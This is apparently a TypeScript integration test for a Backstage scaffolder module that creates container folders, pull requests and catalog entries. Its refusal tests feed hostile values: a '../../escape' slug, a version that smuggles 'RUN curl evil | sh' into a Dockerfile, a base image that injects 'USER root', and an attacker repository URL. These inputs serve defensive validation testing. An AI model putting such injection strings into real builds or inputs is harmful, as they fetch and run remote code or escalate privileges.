import { createBackendModule } from '@backstage/backend-plugin-api';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import catalogPlugin from '@backstage/plugin-catalog-backend';
import catalogModuleScaffolderEntityModel from '@backstage/plugin-catalog-backend-module-scaffolder-entity-model';
import { eventsServiceFactory } from '@backstage/plugin-events-node';
import scaffolderPlugin from '@backstage/plugin-scaffolder-backend';
import {
  createTemplateAction,
  scaffolderActionsExtensionPoint,
} from '@backstage/plugin-scaffolder-node';
import catalogModuleContainers from '@dockyard/plugin-catalog-backend-module-containers';
import {
  ANNOTATION_SLUG,
  parseContainerYaml,
} from '@dockyard/plugin-containers-common';
import {
  backendRequest,
  git,
  initGitRepository,
  isolateGitConfig,
  REPO_ROOT,
  runScaffolderTask,
  snapshotTree,
  waitFor,
} from '@dockyard/test-utils';
import fs from 'node:fs/promises';
import path from 'node:path';
import { scaffolderModuleContainers } from './module';
import { createPlatform } from './__testUtils__/platform';

/*
 * The real templates/new-container/template.yaml, run by the real scaffolder backend through its
 * task API, with this module and the catalog's containers module. Only GitHub is replaced: a
 * recording `publish:github:pull-request` stands in for the pull-request target.
 */

// The action's git must not read this machine's git configuration.
isolateGitConfig();

interface PullRequestCall {
  input: Record<string, unknown>;
  files: string[];
  readme: string;
}

const pullRequests: PullRequestCall[] = [];
const fakeGithubPullRequest = createBackendModule({
  pluginId: 'scaffolder',
  moduleId: 'fake-github-pull-request',
  register(env) {
    env.registerInit({
      deps: { scaffolder: scaffolderActionsExtensionPoint },
      async init({ scaffolder }) {
        scaffolder.addActions(
          createTemplateAction({
            id: 'publish:github:pull-request',
            async handler(ctx) {
              const tree = await snapshotTree(ctx.workspacePath);
              pullRequests.push({
                input: ctx.input,
                files: Object.keys(tree)
                  .filter(f => !f.endsWith('/'))
                  .sort(),
                readme: await fs.readFile(
                  path.join(ctx.workspacePath, 'README.md'),
                  'utf8',
                ),
              });
              ctx.output(
                'remoteUrl',
                'https://github.com/example/data-platform/pull/7',
              );
              ctx.output('pullRequestNumber', 7);
            },
          }),
        );
      },
    });
  },
});

const FORM = {
  name: 'Kafka Connect: "Iceberg" sink',
  slug: 'kafka-connect',
  summary:
    'Kafka Connect workers\nwith the Iceberg sink — not ${{ parameters.slug }}',
  owner: 'group:default/data-platform-team',
  strategy: 'github-release',
  current: '4.1.0',
  sourceRepo: 'apache/kafka',
  // Left over from choosing another strategy first: must not reach container.yaml.
  sourceImage: 'docker.io/apache/kafka',
  baseImage: 'docker.io/library/eclipse-temurin:21-jre',
  ports: [
    {
      name: 'rest',
      port: 8083,
      protocol: 'tcp',
      description: 'Connect REST API',
    },
  ],
  env: [
    {
      name: 'CONNECT_GROUP_ID',
      default: 'lakehouse',
      description: 'Worker group',
    },
  ],
  registry: 'ghcr.io/example/data-platform',
  tags: ['!version.current'],
  provenance: 'max',
  sbom: true,
  signing: 'cosign-keyless',
  catalogRole: 'consumer',
  catalogType: 'glue',
  catalogUri: 'glue://eu-west-1/123456789012',
  decisionAdr: '../../docs/adr/0001-iceberg-catalog.md',
  decisionStatus: 'accepted',
  decisionRationale: 'Athena and EMR read the same tables.',
  rollbackPrevious: 'hive_metastore',
  rollbackRunbook: '../../docs/runbooks/iceberg-catalog-rollback.md',
  rollbackSteps: ['Stop the connectors.', 'Point the sink at Hive Metastore.'],
  target: 'local',
};

describe('the New container template on the scaffolder backend', () => {
  let checkout: string;
  let backend: Awaited<ReturnType<typeof startTestBackend>>;
  let baseUrl: string;

  const request = backendRequest(() => baseUrl);

  const runTask = (values: Record<string, unknown>, authorization?: string) =>
    runScaffolderTask(
      request,
      'template:default/new-container',
      values,
      authorization,
    );

  beforeAll(async () => {
    checkout = await createPlatform();
    initGitRepository(checkout);
    backend = await startTestBackend({
      features: [
        mockServices.rootConfig.factory({
          data: {
            backend: {
              database: { client: 'better-sqlite3', connection: ':memory:' },
            },
            catalog: {
              rules: [
                {
                  allow: [
                    'Component',
                    'System',
                    'API',
                    'Resource',
                    'Location',
                    'Group',
                    'User',
                    'Template',
                  ],
                },
              ],
              locations: [
                {
                  type: 'file',
                  target: path.join(
                    REPO_ROOT,
                    'templates/new-container/template.yaml',
                  ),
                  rules: [{ allow: ['Template'] }],
                },
              ],
              providers: {
                containers: {
                  local: {
                    path: path.join(checkout, 'containers'),
                    defaults: { owner: 'group:default/data-platform-team' },
                  },
                },
              },
            },
            // The embedded default's guest; guests are refused here (allowGuests unset).
            auth: {
              providers: { guest: { userEntityRef: 'user:default/guest' } },
            },
            containers: {
              scaffolder: {
                platform: { path: checkout },
                localPublish: { enabled: true },
                pullRequestTarget:
                  'github.com?owner=example&repo=data-platform',
              },
            },
          },
        }),
        eventsServiceFactory,
        catalogPlugin,
        catalogModuleScaffolderEntityModel,
        catalogModuleContainers,
        scaffolderPlugin,
        scaffolderModuleContainers,
        fakeGithubPullRequest,
      ],
    });
    baseUrl = `http://localhost:${backend.server.port()}`;
    await waitFor('the template in the catalog', async () => {
      const response = await request(
        '/api/catalog/entities/by-name/template/default/new-container',
      );
      return response.ok ? true : undefined;
    });
  }, 60_000);

  afterAll(async () => {
    await backend?.stop();
    await fs.rm(checkout, { recursive: true, force: true });
  });

  it('creates a valid container on a new branch, lists it in the README, and the catalog shows it', async () => {
    const result = await runTask(FORM);
    expect(result.messages.join('\n')).not.toMatch(/error/i);
    expect(result.status).toBe('completed');

    // The files: a valid container.yaml whose free text round-trips.
    const folder = path.join(checkout, 'containers/kafka-connect');
    const text = await fs.readFile(path.join(folder, 'container.yaml'), 'utf8');
    const parsed = parseContainerYaml(text, {
      file: 'container.yaml',
      folderName: 'kafka-connect',
    });
    expect(parsed.problems.filter(p => p.severity === 'error')).toEqual([]);
    expect(parsed.container).toMatchObject({
      name: FORM.name,
      summary: FORM.summary,
      version: {
        strategy: 'github-release',
        current: '4.1.0',
        source: { repo: 'apache/kafka' },
      },
      runtime: {
        base_image: FORM.baseImage,
        ports: [{ name: 'rest', container_port: 8083, protocol: 'tcp' }],
        env: [
          {
            name: 'CONNECT_GROUP_ID',
            default: 'lakehouse',
            description: 'Worker group',
          },
        ],
      },
      publish: {
        image: 'ghcr.io/example/data-platform/kafka-connect',
        provenance: 'max',
        sbom: true,
        signing: { method: 'cosign', keyless: true },
      },
      catalog: {
        role: 'consumer',
        uses: [
          { type: 'glue', uri: 'glue://eu-west-1/123456789012', active: true },
        ],
        decision: { status: 'accepted', cloud_service: 'aws-glue' },
        rollback: { previous: 'hive_metastore', steps: FORM.rollbackSteps },
      },
    });
    expect(
      await fs.readFile(path.join(folder, 'Dockerfile'), 'utf8'),
    ).toContain('\nEXPOSE 8083\n');

    // The branch and its one commit.
    expect(git(checkout, 'branch', '--show-current')).toBe(
      'dockyard/new-kafka-connect',
    );
    expect(
      git(checkout, 'show', '--name-only', '--format=%s', 'HEAD').split('\n'),
    ).toEqual([
      'Add container kafka-connect',
      '',
      'README.md',
      'containers/kafka-connect/Dockerfile',
      'containers/kafka-connect/README.md',
      'containers/kafka-connect/container.yaml',
      'containers/kafka-connect/entrypoint.sh',
      'containers/kafka-connect/tests/smoke.sh',
    ]);
    expect(git(checkout, 'status', '--porcelain')).toBe('');
    expect(
      await fs.readFile(path.join(checkout, 'README.md'), 'utf8'),
    ).toContain(
      '| [Kafka Connect: "Iceberg" sink](containers/kafka-connect/) |',
    );

    // The outputs: the component page link and the files.
    expect(result.output.links).toEqual([
      {
        title: 'Open the component',
        icon: 'catalog',
        entityRef: 'component:default/kafka-connect',
      },
    ]);
    expect(result.output.text[0].content).toContain(
      `\`${path.join(checkout, 'containers/kafka-connect')}\``,
    );
    expect(result.output.text[0].content).toContain(
      'dockyard/new-kafka-connect',
    );

    // The catalog read it at once (no schedule in this test: only the refresh event).
    const entity = await waitFor('the new entity', async () => {
      const response = await request(
        '/api/catalog/entities/by-name/component/default/kafka-connect',
      );
      return response.ok ? response.json() : undefined;
    });
    expect(entity.metadata.annotations[ANNOTATION_SLUG]).toBe('kafka-connect');
    expect(entity.metadata.title ?? entity.metadata.name).toBeTruthy();
    expect(entity.spec).toMatchObject({
      type: 'container',
      owner: 'group:default/data-platform-team',
    });
  }, 60_000);

  it('refuses a slug that exists, with a clear message, and writes nothing', async () => {
    const before = await snapshotTree(checkout);
    const head = git(checkout, 'rev-parse', 'HEAD');
    const result = await runTask({
      ...FORM,
      slug: 'trino',
      name: 'Another Trino',
    });
    expect(result.status).toBe('failed');
    expect(result.messages.join('\n')).toContain(
      'containers/trino already exists in the platform repository',
    );
    expect(await snapshotTree(checkout)).toEqual(before);
    expect(git(checkout, 'rev-parse', 'HEAD')).toBe(head);
  }, 60_000);

  it.each([
    [{ slug: '../../escape' }],
    [{ slug: 'Upper' }],
    [{ current: '1.0\nRUN curl evil | sh' }],
  ])(
    'refuses the hostile input %j before running anything',
    async overrides => {
      const before = await snapshotTree(checkout);
      const result = await runTask({ ...FORM, ...overrides });
      expect(result.status).toBe(400);
      expect(JSON.stringify(result.body)).toMatch(/does not match pattern/);
      expect(await snapshotTree(checkout)).toEqual(before);
    },
    60_000,
  );

  // The Glue questions are a dependency nested in the consumer branch; the backend must still
  // require them (the form is not the only client of the task API).
  it.each(['decisionRationale', 'rollbackSteps'])(
    'refuses a Glue consumer without %s before running anything',
    async missing => {
      const before = await snapshotTree(checkout);
      const values: Record<string, unknown> = { ...FORM, slug: 'glue-no-why' };
      delete values[missing];
      const result = await runTask(values);
      expect(result.status).toBe(400);
      expect(JSON.stringify(result.body)).toContain(
        'instance.catalogRole is not exactly one from',
      );
      expect(await snapshotTree(checkout)).toEqual(before);
    },
    60_000,
  );

  it('refuses what the form cannot check, in the task log, writing nothing', async () => {
    const before = await snapshotTree(checkout);
    const result = await runTask({
      ...FORM,
      slug: 'quoted-base',
      baseImage: 'debian:12"\nUSER root',
    });
    expect(result.status).toBe('failed');
    expect(result.messages.join('\n')).toContain(
      'baseImage must be an image reference',
    );
    expect(await snapshotTree(checkout)).toEqual(before);
  }, 60_000);

  it.each(['user:default/guest', 'user:development/guest'])(
    'refuses the guest %s when allowGuests is not set, writing nothing',
    async guest => {
      const before = await snapshotTree(checkout);
      const head = git(checkout, 'rev-parse', 'HEAD');
      const result = await runTask(
        { ...FORM, slug: 'guest-made' },
        mockCredentials.user.header(guest),
      );
      expect(result.status).toBe('failed');
      expect(result.messages.join('\n')).toContain(
        `containers:create: guests may not create containers on this portal (the task was started by ${guest}); sign in, or set containers.scaffolder.allowGuests to true`,
      );
      expect(await snapshotTree(checkout)).toEqual(before);
      expect(git(checkout, 'rev-parse', 'HEAD')).toBe(head);
    },
    60_000,
  );

  it('refuses a pull request to another repository than the configured one', async () => {
    const before = await snapshotTree(checkout);
    const result = await runTask({
      ...FORM,
      slug: 'elsewhere',
      catalogRole: 'none',
      target: 'pull-request',
      // Not a field of the form: a client of the task API asking for its own repository.
      repoUrl: 'github.com?owner=attacker&repo=data-platform',
    });
    expect(result.status).toBe('failed');
    expect(result.messages.join('\n')).toContain(
      'Pull requests for new containers go to github.com?owner=example&repo=data-platform only',
    );
    expect(pullRequests).toEqual([]);
    expect(await snapshotTree(checkout)).toEqual(before);
  }, 60_000);

  it('opens a pull request with the folder and the README, and registers nothing', async () => {
    const before = await snapshotTree(checkout);
    // The form has no repository field: the configured one is used.
    const result = await runTask({
      ...FORM,
      slug: 'flink',
      name: 'Apache Flink',
      catalogRole: 'none',
      target: 'pull-request',
    });
    expect(result.status).toBe('completed');
    expect(pullRequests).toHaveLength(1);
    expect(pullRequests[0].input).toMatchObject({
      repoUrl: 'github.com?owner=example&repo=data-platform',
      branchName: 'dockyard/new-flink',
      title: 'Add container flink',
    });
    expect(pullRequests[0].files).toEqual([
      'README.md',
      'containers/flink/Dockerfile',
      'containers/flink/README.md',
      'containers/flink/container.yaml',
      'containers/flink/entrypoint.sh',
      'containers/flink/tests/smoke.sh',
    ]);
    expect(pullRequests[0].readme).toContain(
      '| [Apache Flink](containers/flink/) |',
    );
    expect(result.output.links).toEqual([
      {
        title: 'Pull request',
        icon: 'github',
        url: 'https://github.com/example/data-platform/pull/7',
      },
      {
        title: 'Files in the pull request',
        url: 'https://github.com/example/data-platform/pull/7/files',
      },
    ]);
    // Nothing local, nothing in the catalog until the pull request is merged.
    expect(await snapshotTree(checkout)).toEqual(before);
    const entity = await request(
      '/api/catalog/entities/by-name/component/default/flink',
    );
    expect(entity.status).toBe(404);
  }, 60_000);
});
